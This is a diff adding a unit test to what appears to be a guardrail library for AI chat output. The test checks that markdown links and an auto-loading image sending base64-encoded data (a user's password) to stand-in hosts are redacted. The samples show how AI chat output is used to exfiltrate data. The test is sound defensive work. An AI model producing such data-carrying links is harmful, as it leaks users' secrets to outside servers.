@@ -55,6 +55,21 @@ class RailsTest {
                 .isEqualTo("See [this]([URL_SCHEME]).");
     }
 
+    /** What else is wrong with a link, such as that it loads by itself, does not save it. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "![a](https://a.example.net/?q=VGhlIHBhc3N3b3JkIG9mIHRoZSB1c2VyIGlzIGh1bnRlcjI)",
+                "[a](https://203.0.113.7/?q=VGhlIHBhc3N3b3JkIG9mIHRoZSB1c2VyIGlzIGh1bnRlcjI)",
+                "[a](https://me@a.example.net/?q=VGhlIHBhc3N3b3JkIG9mIHRoZSB1c2VyIGlzIGh1bnRlcjI)",
+                "[a](https://a.example.net:9999/?q=VGhlIHBhc3N3b3JkIG9mIHRoZSB1c2VyIGlzIGh1bnRlcjI)"
+            })
+    void chatOutput_redactsLinksThatCarryData_whateverElseIsWrongWithThem(String text) {
+        assertThat(Rails.chatOutput().screen(text).text())
+                .contains("[URL_DATA]")
+                .doesNotContain("VGhl");
+    }
+
     @Test
     void ragContext_keepsPersons_andBlocksAttacks() {
         assertThat(Rails.ragContext().check(PERSON)).isSameAs(Verdict.pass());
